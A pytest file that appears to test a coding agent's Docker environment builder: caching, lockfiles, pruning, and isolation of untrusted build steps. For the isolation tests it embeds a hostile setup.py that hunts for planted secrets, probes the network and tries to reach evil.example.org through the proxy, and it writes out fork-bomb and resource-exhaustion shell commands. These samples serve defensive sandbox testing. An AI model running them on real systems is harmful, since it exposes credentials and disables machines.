"""Images: built once, shared, recorded, bounded, and closed to what they must not see."""

import io
import os
import re
import subprocess
import sys
import tarfile
import threading
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any
from uuid import uuid4

import pytest

from sweagent.config import Settings
from sweagent.environment import Image, discover, disk_use, ensure_image, list_images, prune
from sweagent.environment.bases.host_image import host_base
from sweagent.environment.build import attempts as builder_module
from sweagent.environment.build import lockfile
from sweagent.environment.build import step_container as step_container_module
from sweagent.environment.build.build_network import build_bounds
from sweagent.environment.build.build_steps import Steps, build_image
from sweagent.environment.build.image_build import ensure_locked
from sweagent.environment.build.recipe_text import as_text
from sweagent.environment.build.smoke import smoke_test
from sweagent.environment.build.step_container import Bounds
from sweagent.errors import EnvironmentBuildError, UsageError
from sweagent.policy.replay import ScriptedPolicy
from sweagent.repository import open_repository
from sweagent.sandbox.engine import connect
from sweagent.sandbox.leftovers import find_leftovers
from sweagent.trajectory import Action, Reply

pytestmark = [pytest.mark.docker, pytest.mark.timeout(280)]

FILES = {
    "pyproject.toml": "[project]\nname = 'thing'\nversion = '1'\n[tool.pytest.ini_options]\n",
    "thing.py": "answer = 42\n",
    "tests/test_thing.py": "import thing\n\ndef test_answer(): assert thing.answer == 42\n",
    ".fix-issue.yaml": "environment:\n  base: host\n",
    "own.txt": uuid4().hex,  # another run of these tests on the same engine has other images
}
Ensure = Callable[..., Image]
OWN = f"fix-issue.pid={os.getpid()}"
"""Other workers of the tests have containers too."""


@pytest.fixture
def client() -> Iterator[Any]:
    client = connect()
    yield client
    client.close()


@pytest.fixture
def ensure(client: Any) -> Iterator[Ensure]:
    """Build the environment of a commit; what was built is removed after the test."""

    def make(folder: Path, base: str = "HEAD", settings: Settings | None = None) -> Image:
        repository = open_repository(str(folder), base=base)
        recipe = discover(repository.git_dir, repository.base_commit, name="acme/thing")
        return ensure_image(recipe, repository, settings or Settings(), log=lambda line: None)

    yield make
    prune(0)


def _commit(folder: Path, git_command: Callable[..., str], text: str) -> str:
    (folder / "thing.py").write_text(text)
    git_command("commit", "-qam", "change", cwd=folder)
    return git_command("rev-parse", "HEAD", cwd=folder)


def _layers(client: Any, image: Image) -> list[str]:
    return client.images.get(image.id).attrs["RootFS"]["Layers"]


def test_the_tests_of_the_repository_run_in_its_image(git_repository, ensure: Ensure) -> None:
    image = ensure(git_repository(FILES))
    smoke = smoke_test(image, seconds=200)
    assert (smoke.report.ran, smoke.passed) == (1, 1.0)
    assert "1 passed" in smoke.text()


def test_a_suite_that_is_not_collected_in_time_is_tried_by_some_files(
    git_repository, ensure: Ensure, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(builder_module, "COLLECT_SECONDS", 3)
    many = {f"tests/test_{number:02}.py": "def test_it(): pass\n" for number in range(1, 24)}
    endless = {"tests/test_00.py": "import threading\n\nthreading.Event().wait()\n"}
    image = ensure(git_repository(FILES | many | endless))
    assert (image.collected, image.lacks) == (None, ())
    smoke = smoke_test(image, seconds=15)
    assert (smoke.report.ran, smoke.passed, smoke.sample, smoke.timed_out) == (12, 1.0, 12, False)
    assert "12 test files only" in smoke.text()


UNITTEST = """
import unittest

import thing


class Case(unittest.TestCase):
    def test_answer(self):
        self.assertEqual(thing.answer, 42)
"""


@pytest.mark.parametrize("command", ["python -m pytest", "python -m unittest"])
def test_a_package_that_the_collection_misses_is_added_and_recorded(command, git_repository, ensure: Ensure) -> None:
    said = FILES[".fix-issue.yaml"] + f"  test_command: {command}\n"
    files = {"tests/__init__.py": "", "tests/test_thing.py": UNITTEST, ".fix-issue.yaml": said}
    folder = git_repository(FILES | files | {"thing.py": "import typing_extensions\nanswer = 42\n"})
    image = ensure(folder)
    assert (image.collected, image.lacks) == (1, ())
    lock = lockfile.read(image.name.rsplit(":", 1)[-1])
    assert lock.recipe is not None
    assert [line.value for line in lock.recipe.added] == ["typing-extensions"]
    again = ensure(folder)
    assert (again.id, again.cached, again.collected) == (image.id, True, 1)


def test_what_no_package_gives_is_told_of_each_time(git_repository, ensure: Ensure) -> None:
    folder = git_repository(FILES | {"tests/test_more.py": "import of_nobody_at_all\n"})
    first, again = ensure(folder), ensure(folder)
    assert first.collected == again.collected == 1
    assert [(lack.name, lack.files) for lack in first.lacks] == [("of_nobody_at_all", 1)]
    assert again.lacks == first.lacks
    assert as_text(discover(folder, "HEAD"), lockfile.read(first.name.rsplit(":", 1)[-1])).endswith(str(first.lacks[0]))


def test_an_environment_in_which_nothing_can_be_collected_is_not_handed_out(
    git_repository, ensure: Ensure, client
) -> None:
    folder = git_repository(FILES | {"thing.py": "import of_nobody_at_all\nanswer = 42\n"})
    for _ in range(2):
        with pytest.raises(EnvironmentBuildError, match="the module of_nobody_at_all is missing"):
            ensure(folder)
    assert list_images() == []


def test_a_base_that_breaks_its_own_tests_is_handed_out_for_mending(git_repository, ensure: Ensure) -> None:
    image = ensure(git_repository(FILES | {"thing.py": "answer = = 42\n"}))
    assert image.collected == 0
    assert ["SyntaxError" in lack.name for lack in image.lacks] == [True]


def test_the_users_own_commands_run_on_the_machines_files_too(git_repository, ensure: Ensure) -> None:
    said = FILES[".fix-issue.yaml"] + "  finish:\n  - echo made >/opt/made\n  - echo >left; echo >>thing.py\n"
    image = ensure(git_repository(FILES | {".fix-issue.yaml": said}))
    assert smoke_test(image, command="cat /opt/made; git status --short", seconds=200).output.split() == ["made"]


def test_a_runner_that_is_silent_by_default_is_asked_for_names(git_repository, ensure: Ensure) -> None:
    event = '{"Action":"pass","Package":"x","Test":"TestAnswer"}'
    script = f"case \"$*\" in *-json*) echo '{event}';; *) echo ok x 0.1s;; esac\n"
    said = FILES[".fix-issue.yaml"] + "  test_command: sh go test ./...\n"
    image = ensure(git_repository(FILES | {"go": script, ".fix-issue.yaml": said}))
    assert smoke_test(image, seconds=200).report.ran == 1


def test_ten_callers_get_one_build(git_repository, ensure: Ensure) -> None:
    folder = git_repository(FILES | {"ten.py": ""})
    with ThreadPoolExecutor(10) as pool:
        images = list(pool.map(lambda number: ensure(folder), range(10)))
    assert len({image.id for image in images}) == 1
    assert sum(not image.cached for image in images) == 1


def test_the_next_commit_shares_all_but_the_last_layer(git_repository, git_command, ensure: Ensure, client) -> None:
    folder = git_repository(FILES | {"next.py": ""})
    first = ensure(folder)
    _commit(folder, git_command, "answer = 6 * 7\n")
    second = ensure(folder)
    assert _layers(client, first)[:-1] == _layers(client, second)[:-1]
    assert _layers(client, first)[-1] != _layers(client, second)[-1]


def test_the_image_knows_nothing_after_its_commit(git_repository, git_command, ensure: Ensure) -> None:
    folder = git_repository(FILES | {"past.py": ""})
    future = _commit(folder, git_command, "answer = 'the fix'\n")
    image = ensure(folder, base="HEAD~1")
    command = f"git cat-file -e {future} && echo LEAK; git log --all --format=%H; git status --short; git remote"
    output = smoke_test(image, command=command, seconds=200).output
    assert "LEAK" not in output
    assert output.split() == [git_command("rev-parse", "HEAD~1", cwd=folder)]


def test_what_was_done_is_recorded(git_repository, ensure: Ensure) -> None:
    folder = git_repository(FILES | {"lock.py": ""})
    image = ensure(folder)
    lock = lockfile.read(image.name.rsplit(":", 1)[-1])
    assert lock.image == image.id
    assert lock.recipe is not None
    assert lock.steps[-1].outcome == "ok"
    assert ensure(folder).cached


def test_a_lock_finds_its_image_or_makes_it_again(git_repository, git_command, ensure: Ensure) -> None:
    folder = git_repository(FILES | {"again.py": ""})
    first = ensure(folder)
    lock = lockfile.read(first.name.rsplit(":", 1)[-1])
    later = _commit(folder, git_command, "answer = 0\n")
    repository = open_repository(str(folder), base="HEAD~1")
    assert ensure_locked(lock, repository, Settings(), log=lambda line: None).id == first.id
    prune(0)
    again = ensure_locked(lock, repository, Settings(), log=lambda line: None)
    assert not again.cached
    assert smoke_test(again, seconds=200).passed == 1.0
    with pytest.raises(UsageError, match=later[:12]):
        ensure_locked(lock, open_repository(str(folder)), Settings(), log=lambda line: None)


def test_a_policy_is_asked_once_when_nothing_else_is_known(git_repository, ensure: Ensure, monkeypatch) -> None:
    real, failures = builder_module.build_once, ["a riddle"] * 2
    said = FILES[".fix-issue.yaml"] + "  toolchain: '3.11'\n"
    repository = open_repository(str(git_repository(FILES | {"advice.py": "", ".fix-issue.yaml": said})))
    recipe = discover(repository.git_dir, repository.base_commit, name="acme/thing")
    call = Action(id="1", tool="change_environment", arguments={"why": "it lacks six", "add": ["six"]})

    def build_once(*arguments: Any) -> None:
        if failures:
            raise EnvironmentBuildError(failures.pop(), "")
        real(*arguments)

    monkeypatch.setattr(builder_module, "build_once", build_once)

    def built() -> Image:
        adviser = ScriptedPolicy([Reply(actions=(call,))], name="oracle")
        return ensure_image(recipe, repository, Settings(), log=lambda line: None, adviser=adviser)

    with pytest.raises(EnvironmentBuildError, match="a riddle"):
        built()
    failures.append("a riddle")
    image = built()
    assert "advice of oracle: it lacks six: ok" in image.steps
    assert smoke_test(image, command="python -c 'import six' && python -m pytest -q", seconds=200).report.ran == 1


def test_the_disk_limit_of_the_settings_holds_after_a_build(git_repository, git_command, ensure: Ensure) -> None:
    folder = git_repository(FILES | {"limit.py": ""})
    first = ensure(folder)
    _commit(folder, git_command, "answer = 42  # again\n")
    second = ensure(folder, settings=Settings(images={"disk": "1k"}))  # type: ignore[arg-type]
    assert [stored.name for stored in list_images()] == [second.name]
    assert first.name != second.name


def test_the_least_recently_used_go_first(git_repository, git_command, ensure: Ensure) -> None:
    folder = git_repository(FILES | {"disk.py": ""})
    images = [ensure(folder)]
    for number in range(4):
        _commit(folder, git_command, f"answer = 42  # {number}\n")
        images.append(ensure(folder))
    ensure(folder, base="HEAD~4")
    every = disk_use()
    removed = prune(every - 1)
    assert [stored.name for stored in removed] == [images[1].name]
    prune(0)
    assert list_images() == []
    assert every > 0


def test_an_image_that_exists_is_used_as_it_is(git_repository, ensure: Ensure, offline_image: str) -> None:
    settings = Settings(sandbox={"image": offline_image})  # type: ignore[arg-type]
    image = ensure(git_repository(FILES), settings=settings)
    assert (image.name, image.cached) == (offline_image, True)
    assert image.test_command == "python -m pytest"


def test_an_image_that_cannot_be_had_is_one_clear_error(git_repository, ensure: Ensure) -> None:
    with pytest.raises(EnvironmentBuildError) as caught:
        ensure(git_repository(FILES), settings=Settings(sandbox={"image": "localhost:1/none:1"}))  # type: ignore[arg-type]
    assert "localhost:1/none:1" in str(caught.value)
    assert "docker" in caught.value.hint


HOSTILE = """
import os, socket, subprocess
found = [key for key, value in os.environ.items() if "CANARY" in value]
for root in ("/root", "/home", "/run", "/tmp"):
    for folder, _, names in os.walk(root):
        for name in names:
            try:
                found += [name] if b"CANARY" in open(os.path.join(folder, name), "rb").read(100_000) else []
            except OSError:
                pass
def reached(host, port):
    try:
        return not socket.create_connection((host, port), 2).close()
    except OSError:
        return False
out = reached("1.1.1.1", 443) or reached("8.8.8.8", 53)
gateways = {"172.17.0.1", os.environ["http_proxy"].split("//")[1].split(":")[0]}
interfaces = sorted(os.listdir("/sys/class/net"))
host = [place for place in sorted(gateways | set("ADDRESSES".split())) if reached(place, PORT)]
neighbour = reached("NEIGHBOUR", 8000)
try:
    address = os.environ["http_proxy"].split("//")[1].split(":")
    with socket.create_connection((address[0], int(address[1])), 5) as proxy:
        proxy.sendall(b"CONNECT evil.example.org:443 HTTP/1.1\\r\\n\\r\\n")
        answer = proxy.recv(100).split()[1].decode()
except OSError as error:
    answer = str(error)
def first(*names):
    for name in names:
        try:
            return open("/sys/fs/cgroup/" + name).read().strip()
        except OSError:
            pass
memory = first("memory/memory.limit_in_bytes", "memory.max")
status = dict(line.split(":\\t") for line in open("/proc/self/status").read().splitlines() if ":\\t" in line)
powers = [status[name].strip() for name in ("CapEff", "NoNewPrivs", "Seccomp")]
raise SystemExit("FOUND %s OUT %s HOST %s NEIGHBOUR %s PROXY %s NET %s MEMORY %s POWERS %s" % (
    found, out, host, neighbour, answer, interfaces, memory, powers))
"""


@pytest.fixture
def service() -> Iterator[int]:
    """A service of this machine that listens on all of its addresses."""
    server = ThreadingHTTPServer(("0.0.0.0", 0), BaseHTTPRequestHandler)
    threading.Thread(target=server.serve_forever, args=(0.1,), daemon=True).start()
    yield server.server_address[1]
    server.shutdown()
    server.server_close()


@pytest.fixture
def neighbour(client: Any) -> Iterator[str]:
    """The address of another container on the engine's usual network, which serves port 8000."""
    base = host_base(client, lambda line: None)
    serve = ["python3", "-m", "http.server", "8000"]
    container = client.containers.run(base, serve, detach=True, network_mode="bridge")
    container.reload()
    yield container.attrs["NetworkSettings"]["IPAddress"]
    container.remove(force=True)


def _own_addresses() -> set[str]:
    """The addresses of this machine."""
    listed = subprocess.run(["ip", "-o", "-4", "addr"], capture_output=True, text=True, check=False).stdout
    return set(re.findall(r"inet (\S+)/", listed))


def test_a_hostile_setup_sees_no_secret_and_reaches_nothing(
    git_repository, client, monkeypatch, tmp_path, service: int, neighbour: str
) -> None:
    for name in ("OPENAI_API_KEY", "GITHUB_TOKEN", "PIP_PASSWORD"):
        monkeypatch.setenv(name, "CANARY")
    base = host_base(client, lambda line: None)
    said = f"environment:\n  base: {base}\n  system: []\n  tools: []\n  requirements: []\n  optional: []\n"
    said += "  install: ['python setup.py']\n"
    gateways = {
        part["Gateway"]
        for network in client.networks.list(greedy=True)
        for part in network.attrs["IPAM"]["Config"] or ()
        if "Gateway" in part
    }
    hostile = HOSTILE.replace("PORT", str(service)).replace("ADDRESSES", " ".join(gateways | _own_addresses()))
    hostile = hostile.replace("NEIGHBOUR", neighbour, 1)
    folder = git_repository({"setup.py": hostile, "thing.py": "", ".fix-issue.yaml": said})
    repository = open_repository(str(folder))
    recipe = discover(repository.git_dir, repository.base_commit, name="acme/hostile")
    recipe = recipe.model_copy(update={"toolchain": recipe.toolchain.model_copy(update={"alternatives": ()})})
    told: list[str] = []
    with pytest.raises(EnvironmentBuildError) as caught:
        ensure_image(recipe, repository, Settings(), log=told.append)
    assert "FOUND [] OUT False HOST [] NEIGHBOUR False PROXY 403 NET ['lo'" in str(caught.value)
    # What apt, dpkg and pip need, and nothing that leads out; no way to more by a program; a filter of system calls.
    assert "POWERS ['00000000800000fb', '1', '2']" in str(caught.value)
    assert f"MEMORY {build_bounds(Settings().sandbox).memory // 4096 * 4096}" in str(caught.value)
    assert "refused evil.example.org (1 request)" in told
    assert str(caught.value).endswith("refused evil.example.org (1 request)")
    assert os.environ["GITHUB_TOKEN"] == "CANARY"
    assert not (tmp_path / "ran").exists()
    assert client.containers.list(all=True, filters={"name": "fix-issue-relay-", "label": OWN}) == []


BOUNDS = Bounds(memory=1 << 28, pids=100, disk=1 << 26)


@pytest.mark.parametrize(
    ("command", "said"),
    [
        pytest.param(
            "bomb() { bomb | bomb & }; bomb; sleep 0.3; exit 1",
            "more than its bound of 100 processes",
            id="fork bomb",
        ),
        pytest.param(
            "n=0; while [ $n -lt 200 ]; do sleep 60 & n=$((n + 1)); done; exit 1",
            "more than its bound of 100 processes",
            id="many processes",
        ),
        pytest.param("python3 -c 'x = bytearray(700_000_000)'", "its bound of 256 MiB of memory", id="memory"),
        pytest.param(
            "while :; do cat /proc/self/environ /usr/bin/* >>/var/tmp/$$.$(date +%N); done",
            "more than its bound of 64 MiB to the disk",
            id="disk",
        ),
        pytest.param("head -c 200000000 /dev/zero >/big", "returned a non-zero code: 153", id="one large file"),
        pytest.param("while :; do echo and again; done", "ended at its limit of 3 s", id="prints without end"),
        pytest.param("exec sleep 4000", "ended at its limit of 3 s", id="never ends"),
    ],
)
def test_a_build_step_is_bounded_and_told_in_plain_words(
    client, own_cache, monkeypatch: pytest.MonkeyPatch, command: str, said: str
) -> None:
    if "limit of" in said:
        monkeypatch.setattr(step_container_module, "BUILD_SECONDS", 3.0)
    monkeypatch.setattr(step_container_module, "_DISK_POLL", 1.0)
    base = host_base(client, lambda line: None)
    told: list[str] = []
    steps = Steps("none", {}, BOUNDS, told.append)
    dockerfile = f"FROM {base}\nENV THIS={uuid4().hex}\nRUN {command}\n"
    with pytest.raises(EnvironmentBuildError, match=said):
        build_image(client.api, dockerfile, {}, steps, tag="fix-issue/env:never", labels={})
    assert len(told) <= step_container_module.MOST_LINES + 10
    assert client.containers.list(all=True, filters={"name": "fix-issue-step-", "label": OWN}) == []


def test_of_a_step_that_prints_much_some_is_passed_on_and_the_end_is_kept(
    client, own_cache, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(step_container_module, "MOST_LINES", 100)
    told: list[str] = []
    dockerfile = (
        f"FROM {host_base(client, lambda line: None)}\nRUN seq 3000; yes x | head -c 30000 | tr -d '\\n'; exit 3\n"
    )
    steps = Steps("none", {}, BOUNDS, told.append)
    with pytest.raises(EnvironmentBuildError, match="3000\nx") as caught:
        build_image(client.api, dockerfile, {}, steps, tag="fix-issue/env:never", labels={})
    assert "returned a non-zero code: 3" in str(caught.value)
    assert len(told) < 110
    assert "more lines are not shown" in told[-1]
    assert len(str(caught.value)) < 30_000


def test_what_a_failed_build_has_left_behind_goes_when_images_are_pruned(
    client, own_cache, monkeypatch: pytest.MonkeyPatch
) -> None:
    mark = uuid4().hex
    steps = Steps("none", {}, KEPT, lambda line: None)
    dockerfile = f"FROM {host_base(client, lambda line: None)}\nENV A={mark}\nRUN echo >/made\nRUN exit 3\n"
    with pytest.raises(EnvironmentBuildError):
        build_image(client.api, dockerfile, {}, steps, tag="fix-issue/env:never", labels={})

    def left() -> list[str]:
        found = client.api.images(filters={"label": "org.fix-issue.step", "dangling": True})
        names = [entry["Id"] for entry in found]
        return [name for name in names if f"A={mark}" in (client.api.inspect_image(name)["Config"]["Env"] or ())]

    assert len(left()) == 1
    prune(1 << 60)
    assert len(left()) == 1  # a build may go on with it
    # Only what is this test's own is old.
    old, images = left(), client.api.images
    monkeypatch.setattr(
        "docker.api.image.ImageApiMixin.images",
        lambda self, *given, **words: [
            entry | {"Created": 0} if entry["Id"] in old else entry for entry in images(*given, **words)
        ],
    )
    prune(1 << 60)
    monkeypatch.undo()
    assert left() == []


KEPT = Bounds(memory=1 << 28, pids=100, disk=1 << 28)


def test_a_step_is_taken_from_before_and_leaves_nothing_but_files(client, own_cache) -> None:
    base = host_base(client, lambda line: None)
    told: list[str] = []
    steps = Steps("none", {"http_proxy": "http://user:secret@127.0.0.1:1"}, KEPT, told.append)
    dockerfile = f"FROM {base}\nENV THIS={uuid4().hex}\nARG OF_THE_BUILD=x\nRUN test $OF_THE_BUILD = x && echo >/made\n"
    name = f"fix-issue/env:{uuid4().hex[:12]}"
    try:
        first = build_image(client.api, dockerfile, {}, steps, tag=name, labels={"a": "b"})
        again = build_image(client.api, dockerfile, {}, steps, tag=name, labels={"a": "b"})
        assert (first == again, told.count("|  ---> Using cache")) == (True, 1)
        config = client.images.get(name).attrs["Config"]
        assert config["Labels"]["a"] == "b"
        assert "OF_THE_BUILD" not in str(config)
        assert "proxy" not in str(config)
        assert not config.get("Entrypoint")
        container = client.containers.create(name, ["cat", "/made"])
        try:
            # The step's container had a label that named its owner, whose end a sandbox of this image must not share.
            assert container.id[:12] not in [found.name for found in find_leftovers()]
        finally:
            container.remove()
    finally:
        client.images.remove(name, force=True)


def test_a_label_alone_makes_no_image_a_step_of_ours(client, own_cache) -> None:
    """Anybody's image may have the label; only the engine says of which image one was made."""
    base = host_base(client, lambda line: None)
    name, told = f"fix-issue/env:{uuid4().hex[:12]}", []
    steps, dockerfile = Steps("none", {}, KEPT, told.append), f"FROM {base}\nENV A={uuid4().hex}\nRUN echo >/ours\n"
    try:
        build_image(client.api, dockerfile, {}, steps, tag=name, labels={})
        label = f"org.fix-issue.step={client.images.get(name).attrs['Config']['Labels']['org.fix-issue.step']}"
        client.images.remove(name, force=True)
        empty = io.BytesIO()
        tarfile.open(fileobj=empty, mode="w").close()
        repository, tag = name.split(":")
        client.api.import_image_from_data(
            empty.getvalue(), repository=repository, tag=f"{tag}-evil", changes=[f"LABEL {label}"]
        )
        build_image(client.api, dockerfile, {}, steps, tag=name, labels={})
        assert "|  ---> Using cache" not in told
    finally:
        for image in (name, f"{name}-evil"):
            client.images.remove(image, force=True)


KILLED = """
import sys
from uuid import uuid4
from sweagent.environment.build.build_steps import Steps, build_image
from sweagent.sandbox.engine import connect
from sweagent.environment.build.step_container import Bounds
steps = Steps("none", {}, Bounds(memory=1 << 28, pids=100, disk=1 << 28), lambda line: print(line, flush=True))
dockerfile = f"FROM {sys.argv[1]}\\nENV THIS={uuid4().hex}\\nRUN echo begun; exec sleep 4000\\n"
build_image(connect().api, dockerfile, {}, steps, tag="fix-issue/env:never", labels={})
"""


def test_a_step_ends_with_its_builder(client, own_cache) -> None:
    base = host_base(client, lambda line: None)
    before = {item.id for item in client.containers.list()}
    builder = subprocess.Popen([sys.executable, "-c", KILLED, base], stdout=subprocess.PIPE, text=True)
    assert builder.stdout is not None
    assert next(line for line in builder.stdout if line == "| begun\n")
    (container,) = [
        item
        for item in client.containers.list(filters={"name": "fix-issue-step-"})
        if item.id not in before and item.attrs["Config"]["Labels"]["fix-issue.pid"] == str(builder.pid)
    ]
    builder.kill()
    builder.wait()
    container.wait(timeout=60)
    assert container.id[:12] in [found.name for found in find_leftovers()]
    container.remove()
